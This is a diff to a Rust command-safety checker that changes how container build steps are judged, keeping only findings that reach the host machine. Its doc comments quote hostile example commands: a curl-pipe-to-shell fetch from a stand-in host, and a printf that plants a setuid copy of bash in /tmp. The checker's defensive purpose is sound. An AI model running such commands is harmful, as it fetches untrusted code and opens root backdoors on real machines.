@@ -5,6 +5,14 @@
 use super::*;
 use agentgate_commands::LineForm;
 
+/// Whether a finding of a container build step (`RUN`, a container
+/// file's command line) reaches this machine: what the build fetches and
+/// runs, sends out or hides does; changes of the image's own files and
+/// system do not (`image_steps`).
+pub(super) fn reaches_host(c: Category) -> bool {
+    matches!(c, Rce | Exfil | Obf)
+}
+
 /// The longest script judged this way.
 const MAX_SCRIPT: usize = 16 * 1024;
 
@@ -16,6 +24,9 @@ impl Walker<'_> {
             return;
         };
         let mut texts = code::literals(payload);
+        // Build steps run inside the image being built, not on this
+        // machine: judged on their own walker (see `image_steps`).
+        let mut image = Vec::new();
         for line in payload.lines() {
             match m.lines {
                 LineForm::Literals => {}
@@ -32,7 +43,7 @@ impl Walker<'_> {
                 }
                 LineForm::RunInstructions => {
                     if let Some(cmd) = line.trim_start().strip_prefix("RUN ") {
-                        texts.push(cmd.to_owned());
+                        image.push(cmd.to_owned());
                     }
                 }
                 LineForm::CmakeCommand => {
@@ -43,7 +54,7 @@ impl Walker<'_> {
                 LineForm::Shell => texts.push(line.to_owned()),
             }
         }
-        let mut runs = false;
+        let mut runs = self.image_steps(site, path, &image);
         for t in &texts {
             let t = t.trim();
             if t.is_empty() {
@@ -82,6 +93,50 @@ impl Walker<'_> {
                 &site.cmd.text,
             );
         }
+    }
+
+    /// A container file's `RUN` steps run in the image being built, with
+    /// the image's files and the build's network, not on this machine: a
+    /// package install, a change of `/etc` or a deletion there changes the
+    /// image. What still reaches this machine is what the build fetches
+    /// and runs, what it sends out and what it hides; those findings are
+    /// kept (as `RUN curl -s http://x.example/a | sh`). Whether one was.
+    fn image_steps(&mut self, site: Site<'_>, path: &str, steps: &[String]) -> bool {
+        let mut kept = false;
+        for step in steps {
+            let step = step.trim();
+            if step.is_empty() {
+                continue;
+            }
+            if self.scripts >= MAX_SCRIPTS {
+                self.find(
+                    Unverifiable,
+                    Medium,
+                    "nests shells and wrappers too deeply to check",
+                    step,
+                );
+                return true;
+            }
+            if code::is_bare_shell(step) {
+                kept = true;
+                continue;
+            }
+            let mut inner = Walker::new(&self.ctx);
+            inner.script(step, site.depth + 1);
+            self.scripts += inner.scripts;
+            for f in inner.finish().findings {
+                if reaches_host(f.category) {
+                    kept = true;
+                    self.find(
+                        f.category,
+                        f.severity,
+                        format!("writes {path}, whose build step {}", f.reason),
+                        &site.cmd.text,
+                    );
+                }
+            }
+        }
+        kept
     }
 
     /// `printf '#!/bin/sh\ncp /bin/bash /tmp/b; chmod 4777 /tmp/b' >
